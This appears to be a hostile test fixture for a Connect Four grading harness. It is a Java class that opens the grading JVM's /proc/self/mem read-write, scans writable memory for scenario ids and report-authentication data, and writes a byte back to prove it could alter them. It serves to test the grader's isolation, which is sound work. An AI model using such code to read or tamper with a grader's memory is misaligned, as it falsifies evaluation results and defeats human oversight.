package tabuleiro.connectfour;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

/**
 * HOSTILE SUBMISSION (grading/src/test/resources/hostile/reflection): the grading JVM's own
 * memory through {@code /proc/self/mem}: it reads the writable mappings, looking for the
 * scenarios' unique ids and for anything a runner could keep there to authenticate its
 * reports, and writes a byte back to show that it could change any of it.
 */
final class Memory {

    private static final byte[] ID = "[engine:cucumber]/".getBytes(StandardCharsets.ISO_8859_1);
    private static final long MAX_BYTES = 256L << 20;

    private Memory() {
    }

    static void readAndWrite() {
        List<String> maps;
        try {
            maps = Files.readAllLines(Path.of("/proc/self/maps"));
        } catch (IOException | RuntimeException e) {
            Player.Hook.note("read /proc/self/maps", "REFUSED", e.toString());
            return;
        }
        try (RandomAccessFile memory = new RandomAccessFile("/proc/self/mem", "rw")) {
            long scanned = 0;
            int ids = 0;
            long written = -1;
            byte[] buffer = new byte[1 << 20];
            for (String map : maps) {
                String[] fields = map.split("\\s+");
                if (!fields[1].startsWith("rw") || scanned > MAX_BYTES) {
                    continue;
                }
                String[] range = fields[0].split("-");
                long start = Long.parseUnsignedLong(range[0], 16);
                long end = Long.parseUnsignedLong(range[1], 16);
                for (long at = start; at < end && scanned < MAX_BYTES; at += buffer.length) {
                    int length = (int) Math.min(buffer.length, end - at);
                    try {
                        memory.seek(at);
                        memory.readFully(buffer, 0, length);
                    } catch (IOException e) {
                        break;
                    }
                    scanned += length;
                    ids += count(buffer, length);
                    if (written < 0) {
                        memory.seek(at);
                        memory.write(buffer, 0, 1);
                        written = at;
                    }
                }
            }
            Player.Hook.note("/proc/self/mem read and written", "OK", scanned / (1 << 20)
                    + " MB read, " + ids + " scenario ids found, a byte written back at 0x"
                    + Long.toHexString(written));
        } catch (IOException | RuntimeException e) {
            Player.Hook.note("/proc/self/mem read and written", "REFUSED", e.toString());
        }
    }

    private static int count(byte[] buffer, int length) {
        int found = 0;
        outer:
        for (int i = 0; i + ID.length <= length; i++) {
            for (int j = 0; j < ID.length; j++) {
                if (buffer[i + j] != ID[j]) {
                    continue outer;
                }
            }
            found++;
        }
        return found;
    }
}
